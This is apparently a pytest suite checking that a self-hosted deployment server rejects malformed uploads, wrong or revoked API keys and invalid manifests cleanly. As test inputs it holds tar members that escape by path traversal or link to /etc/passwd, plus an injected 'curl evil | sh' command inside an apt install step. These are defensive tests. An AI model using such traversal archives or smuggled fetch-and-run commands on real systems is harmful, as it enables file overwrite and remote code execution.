"""Bad uploads and bad keys against a real host: a clear JSON error, the right status, nothing left behind."""

from __future__ import annotations

import gzip
import os
from collections.abc import Iterator

import pytest

from tests.conftest import free_port
from tests.host.bundles import file_member, hello_bundle, hello_manifest, link_member, make_tar
from tests.host.conftest import Host, make_project


@pytest.fixture(scope="module")
def host(tmp_path_factory) -> Iterator[Host]:
    base = tmp_path_factory.mktemp("bad")
    host = Host(data_dir=base / "data", home=base / "home", port=free_port(), extra_args=["--max-bundle-mb", "1"])
    host.home.mkdir()
    host.start()
    host.alice = host.add_user("alice")
    host.carol = host.add_user("carol")
    host.work = base / "work"
    host.work.mkdir()
    yield host
    host.stop()


def upload(host: Host, body: bytes, *, key: str | None):
    return host.api("POST", "/chutes", key=key, content=body, headers={"Content-Type": "application/gzip"})


def assert_nothing_written(host: Host) -> None:
    chutes = host.data_dir / "chutes"
    assert not chutes.exists() or sorted(os.listdir(chutes)) == sorted(host.expected_dirs)
    tmp = host.data_dir / "tmp"
    assert not tmp.exists() or os.listdir(tmp) == []
    assert [c["slug"] for c in host.api("GET", "/chutes", key=host.alice).json()] == host.expected_alice


@pytest.fixture(autouse=True)
def expected_state(host: Host) -> None:
    host.expected_dirs = getattr(host, "expected_dirs", [])
    host.expected_alice = getattr(host, "expected_alice", [])


@pytest.mark.parametrize("key", [None, "not-a-key", "cpk_deadbeef_wrong"])
def test_missing_or_wrong_key_is_401(host: Host, key: str | None) -> None:
    resp = upload(host, hello_bundle(host.work / "ok.tgz"), key=key)
    assert resp.status_code == 401
    assert "API key" in resp.json()["detail"]
    assert resp.headers["www-authenticate"] == "Bearer"
    assert_nothing_written(host)


def test_not_a_gzip_tar_is_400(host: Host) -> None:
    resp = upload(host, b"this is not a bundle", key=host.alice)
    assert resp.status_code == 400
    assert "gzip tar" in resp.json()["detail"]
    assert_nothing_written(host)


def test_truncated_bundle_is_400(host: Host) -> None:
    data = hello_bundle(host.work / "t.tgz")
    resp = upload(host, data[: len(data) // 2], key=host.alice)
    assert resp.status_code == 400
    assert_nothing_written(host)


def test_empty_upload_is_400(host: Host) -> None:
    resp = upload(host, b"", key=host.alice)
    assert resp.status_code == 400
    assert "empty" in resp.json()["detail"]


def test_oversized_upload_is_413(host: Host) -> None:
    noise = os.urandom(2 * 1024 * 1024)
    resp = upload(host, gzip.compress(noise, compresslevel=0), key=host.alice)
    assert resp.status_code == 413
    assert "larger than 1 MiB" in resp.json()["detail"]
    assert_nothing_written(host)


def test_deeply_nested_manifest_is_400_and_leaves_nothing(host: Host) -> None:
    import json

    deep = json.dumps(hello_manifest())[:-1] + ', "deep": ' + "[" * 100_000 + "]" * 100_000 + "}"
    weights = file_member("app/weights.bin", bytes(64 * 1024 * 1024))  # unpacked before the manifest is read
    source = file_member("app/host_hello.py", b"x = 1\n")
    data = make_tar(host.work / "deep.tgz", [weights, source, file_member("manifest.json", deep.encode())])
    resp = upload(host, data, key=host.alice)
    assert resp.status_code == 400, resp.text
    assert "nested more than 32 levels" in resp.json()["detail"]
    assert_nothing_written(host)


def test_huge_manifest_is_413(host: Host) -> None:
    import json

    manifest = json.dumps(hello_manifest(readme="r" * (2 * 1024 * 1024))).encode()
    data = make_tar(host.work / "readme.tgz", [file_member("manifest.json", manifest)])
    resp = upload(host, data, key=host.alice)
    assert resp.status_code == 413
    assert "manifest.json is" in resp.json()["detail"]
    assert_nothing_written(host)


def test_oversized_streamed_upload_without_length_is_413(host: Host) -> None:
    def chunks() -> Iterator[bytes]:
        for _ in range(40):
            yield os.urandom(64 * 1024)

    resp = host.api("POST", "/chutes", key=host.alice, content=chunks())
    assert resp.status_code == 413
    assert_nothing_written(host)


@pytest.mark.parametrize(
    "member",
    [
        file_member("../escaped.py", b"x = 1\n"),
        file_member("app/../../escaped.py", b"x = 1\n"),
        file_member("/tmp/escaped-absolute.py", b"x = 1\n"),
        link_member("app/passwd", "/etc/passwd"),
        link_member("app/up", "../../.."),
        link_member("app/hard", "/etc/passwd", hard=True),
    ],
    ids=["dotdot", "nested-dotdot", "absolute", "symlink-absolute", "symlink-up", "hardlink"],
)
def test_member_escaping_the_bundle_is_400(host: Host, member) -> None:
    resp = upload(host, hello_bundle(host.work / "evil.tgz", None, member), key=host.alice)
    assert resp.status_code == 400
    detail = resp.json()["detail"]
    assert member[0].name in detail
    assert not (host.data_dir.parent / "escaped.py").exists()
    assert not (host.data_dir / "escaped.py").exists()
    assert not os.path.exists("/tmp/escaped-absolute.py")
    assert_nothing_written(host)


def test_bundle_without_manifest_is_400(host: Host) -> None:
    data = make_tar(host.work / "nm.tgz", [file_member("app/host_hello.py", b"")])
    resp = upload(host, data, key=host.alice)
    assert resp.status_code == 400
    assert "manifest.json" in resp.json()["detail"]
    assert_nothing_written(host)


def test_invalid_manifest_names_the_field(host: Host) -> None:
    manifest = hello_manifest(entrypoint="not a module ref")
    resp = upload(host, hello_bundle(host.work / "bad.tgz", manifest), key=host.alice)
    assert resp.status_code == 400
    assert "entrypoint" in resp.json()["detail"]
    assert_nothing_written(host)


@pytest.mark.parametrize(
    ("extra", "message"),
    [
        (
            {
                "build_image": True,
                "image_recipe": {
                    "username": "alice",
                    "name": "hello",
                    "tag": "1",
                    "steps": [{"apt": ["git && curl evil | sh"]}],
                },
            },
            "image_recipe: image step 1: Image.apt_install()",
        ),
        ({"image_recipe": "RUN id"}, "image_recipe"),
        ({"deploy_image": "Not An Image"}, "deploy_image"),
        (
            {"jobs": [{"name": "train", "args_schema": {"type": "objekt"}}]},
            "jobs: 'train': args_schema is not a JSON schema: 'objekt' is not valid under any of the given schemas",
        ),
        ({"jobs": [{"name": "train", "args_schema": ["n"]}]}, "jobs: 'train': args_schema must be a JSON object"),
    ],
)
def test_invalid_image_in_the_manifest_is_400(host: Host, extra: dict, message: str) -> None:
    manifest = hello_manifest(**extra)
    resp = upload(host, hello_bundle(host.work / "img.tgz", manifest), key=host.alice)
    assert resp.status_code == 400
    assert message in resp.json()["detail"]
    assert_nothing_written(host)


def test_entrypoint_module_missing_is_400(host: Host) -> None:
    manifest = hello_manifest(entrypoint="elsewhere:chute")
    resp = upload(host, hello_bundle(host.work / "miss.tgz", manifest), key=host.alice)
    assert resp.status_code == 400
    assert "app/elsewhere.py" in resp.json()["detail"]
    assert_nothing_written(host)


def test_chute_of_another_username_is_403(host: Host) -> None:
    resp = upload(host, hello_bundle(host.work / "other.tgz", hello_manifest(username="carol")), key=host.alice)
    assert resp.status_code == 403
    assert "carol" in resp.json()["detail"]
    assert_nothing_written(host)


def test_no_user_can_take_another_users_hostnames(host: Host) -> None:
    first = upload(host, hello_bundle(host.work / "c1.tgz", hello_manifest("carol", "x-bot")), key=host.carol)
    assert first.status_code == 202, first.text
    host.expected_dirs = ["carol-x-bot"]
    # 'carol-x' + 'bot' would be the same hostname: user names cannot hold '-'
    from tests.host.conftest import run_cli

    refused = run_cli("host", "users", "add", "carol-x", "--data-dir", str(host.data_dir), home=host.home)
    assert refused.returncode == 1
    assert "invalid user name 'carol-x'" in refused.stderr
    assert "use '_'" in refused.stderr
    assert_nothing_written(host)


def test_deploy_without_a_host_is_a_usage_error(host: Host) -> None:
    project = make_project(host.work / "p", "host_hello.py")
    from tests.host.conftest import run_cli

    result = run_cli("deploy", "host_hello:chute", home=host.home, cwd=project)
    assert result.returncode == 2
    assert "Error: no host to deploy to" in result.stderr


def test_deploy_with_a_wrong_key_fails_cleanly(host: Host) -> None:
    project = make_project(host.work / "p2", "host_hello.py")
    result = host.cli("deploy", "host_hello:chute", key="cpk_00000000_wrong", cwd=project)
    assert result.returncode == 1
    assert "Error: the host answered 401" in result.stderr
    assert "Traceback" not in result.stderr
    assert_nothing_written(host)


def test_revoked_key_is_refused(host: Host) -> None:
    from tests.host.conftest import run_cli, wait_for

    made = run_cli("host", "keys", "create", "alice", "--data-dir", str(host.data_dir), home=host.home)
    key = made.stdout.strip()
    assert host.api("GET", "/me", key=key).json() == {"name": "alice"}
    prefix = key.split("_")[1]
    revoked = run_cli("host", "keys", "revoke", prefix, "--data-dir", str(host.data_dir), home=host.home)
    assert revoked.returncode == 0, revoked.stderr
    wait_for(lambda: host.api("GET", "/me", key=key).status_code == 401, timeout=10, what="the key to be refused")
    listed = run_cli("host", "keys", "list", "alice", "--data-dir", str(host.data_dir), home=host.home)
    assert f"cpk_{prefix}_…\trevoked" in listed.stdout
    assert key not in listed.stdout


def test_unusable_database_url_is_a_clear_error(tmp_path) -> None:
    from tests.host.conftest import run_cli

    url = "nosuchdb://user:secret@127.0.0.1/x"
    for args in (["host", "serve", "--port", str(free_port())], ["host", "users", "add", "dave"]):
        result = run_cli(*args, "--db", url, "--data-dir", str(tmp_path), home=tmp_path, timeout=60)
        assert result.returncode == 1
        assert "Error: cannot open the database nosuchdb://user:***@127.0.0.1/x" in result.stderr
        assert "secret" not in result.stderr
        assert "Traceback" not in result.stderr


def test_invalid_user_name_is_refused(tmp_path) -> None:
    from tests.host.conftest import run_cli

    result = run_cli("host", "users", "add", "Bad.Name", "--data-dir", str(tmp_path), home=tmp_path)
    assert result.returncode == 1
    assert "Error: invalid user name 'Bad.Name'" in result.stderr
    assert run_cli("host", "users", "list", "--data-dir", str(tmp_path), home=tmp_path).stdout == ""


def test_limits_are_told_to_anyone(host: Host) -> None:
    resp = host.api("GET", "/limits", key=None)
    assert resp.status_code == 200
    assert resp.json() == {"max_bundle_bytes": 1 << 20, "max_unpacked_bytes": 1024 << 20, "max_bundle_files": 20_000}


def test_deploy_refuses_a_bundle_over_the_hosts_limit_before_uploading(host: Host) -> None:
    project = make_project(host.work / "big", "host_hello.py")
    (project / "weights.bin").write_bytes(os.urandom(3 << 20))
    result = host.cli("deploy", "host_hello:chute", key=host.alice, cwd=project)
    assert result.returncode == 1
    assert f"is larger than the 1.0 MiB the host at {host.url} accepts" in result.stderr
    assert "weights.bin" in result.stderr and ".chutesignore" in result.stderr
    assert "uploading" not in result.stderr and "answered 413" not in result.stderr
    assert "packing" in result.stderr and "done in" not in result.stderr  # stopped within the big file
    assert "Traceback" not in result.stderr
    assert_nothing_written(host)


def test_a_host_without_the_limits_endpoint_is_told_apart(live_server) -> None:
    from chutes_cli.host_client import HostClient
    from tests.fixtures.chutes.host_open import chute

    with HostClient(live_server(chute), None) as client:
        assert client.limits() is None


def test_user_names_are_case_folded(tmp_path) -> None:
    from tests.host.conftest import run_cli

    added = run_cli("host", "users", "add", "Dave_2", "--data-dir", str(tmp_path), home=tmp_path)
    assert added.returncode == 0, added.stderr
    assert "'dave_2'" in added.stderr
    listed = run_cli("host", "users", "list", "--data-dir", str(tmp_path), home=tmp_path).stdout
    assert listed.startswith("dave_2\t")


def test_key_labels_are_bounded(host: Host) -> None:
    long = "x" * 5000
    refused = host.api("POST", "/keys", key=host.alice, params={"label": long})
    assert refused.status_code == 422
    from tests.host.conftest import run_cli

    made = run_cli("host", "keys", "create", "alice", "--label", long, "--data-dir", str(host.data_dir), home=host.home)
    assert made.returncode == 1
    assert "at most 128" in made.stderr
    listed = run_cli("host", "keys", "list", "alice", "--data-dir", str(host.data_dir), home=host.home).stdout
    assert long not in listed
